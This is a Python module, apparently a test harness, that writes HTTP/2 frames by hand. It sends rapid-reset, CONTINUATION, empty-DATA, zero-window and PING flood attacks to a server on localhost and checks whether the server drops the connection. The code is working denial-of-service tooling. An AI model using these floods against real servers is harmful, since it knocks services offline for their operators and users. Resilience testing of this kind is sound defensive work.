"""HTTP/2 as no library would speak it: frames by hand, to see what a server makes of those that mean harm."""
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
TIMEOUT = 15


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    """A string of HPACK, as it is."""
    value = value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, [127]
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes([*out, rest]) + value


def field(name, value):
    """A header that nobody has to remember."""
    return b"\0" + text(name) + text(value)


def request(path, method="GET", more=()):
    fields = ((":method", method), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", path), *more)
    return b"".join(field(*one) for one in fields)


class Connection:
    """One connection that has shaken hands."""

    def __init__(self, port, settings=b""):
        self.socket = socket.create_connection(("127.0.0.1", port), 5)
        self.socket.settimeout(TIMEOUT)
        self.pending = b""
        self.socket.sendall(PREFACE + frame(SETTINGS, payload=settings))

    def send(self, data):
        """Whether it was taken: a server that has closed does not."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def read(self):
        """The next frame: kind, flags, stream, payload; None when the server has closed or says nothing."""
        while len(self.pending) < 9 or len(self.pending) < 9 + int.from_bytes(self.pending[:3], "big"):
            try:
                part = self.socket.recv(65536)
            except OSError:
                return None
            if not part:
                return None
            self.pending += part
        length = int.from_bytes(self.pending[:3], "big")
        head, payload, self.pending = self.pending[3:9], self.pending[9 : 9 + length], self.pending[9 + length :]
        kind, flags, stream = struct.unpack(">BBI", head)
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK))
        return kind, flags, stream, payload

    def closed_within(self, seconds):
        """Whether the server takes its leave."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.socket.settimeout(max(end - time.monotonic(), 0.01))
            found = self.read()
            if found is None:
                return time.monotonic() < end
            if found[0] == GOAWAY:
                return True
        return False

    def close(self):
        self.socket.close()


def rapid_reset(port, path, count):
    """Asks and takes it back, again and again. How often that went well."""
    connection, sent = Connection(port), 0
    head = request(path)
    for at in range(0, count, 100):
        streams = range(2 * at + 1, 2 * (at + 100) + 1, 2)
        burst = b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, one, head) + frame(RESET, 0, one, struct.pack(">I", 8))
            for one in streams
        )
        if not connection.send(burst):
            break
        sent += 100
    return sent, connection.closed_within(2), connection


def continuation_flood(port, path, count):
    """Headers that never end."""
    connection, sent = Connection(port), 0
    connection.send(frame(HEADERS, 0, 1, request(path)))
    part = frame(CONTINUATION, 0, 1, field("x", "y" * 8000) * 2)
    while sent < count and connection.send(part):
        sent += 1
    return sent, connection.closed_within(2), connection


def empty_data_flood(port, path, count):
    """A body that is nothing, over and over."""
    connection, sent = Connection(port), 0
    connection.send(frame(HEADERS, END_HEADERS, 1, request(path, "POST")))
    part = frame(DATA, 0, 1) * 100
    while sent < count and connection.send(part):
        sent += 100
    return sent, connection.closed_within(2), connection


def zero_window(port, paths):
    """Asks for much and allows nothing to come."""
    connection = Connection(port, struct.pack(">HI", 4, 0))
    for at, path in enumerate(paths):
        connection.send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * at + 1, request(path)))
    return connection


def ping_flood(port, count):
    """Pings whose answers nobody reads."""
    connection, sent = Connection(port), 0
    connection.socket.settimeout(5)
    part = frame(PING, payload=b"12345678") * 500
    while sent < count and connection.send(part):
        sent += 500
    return sent, connection
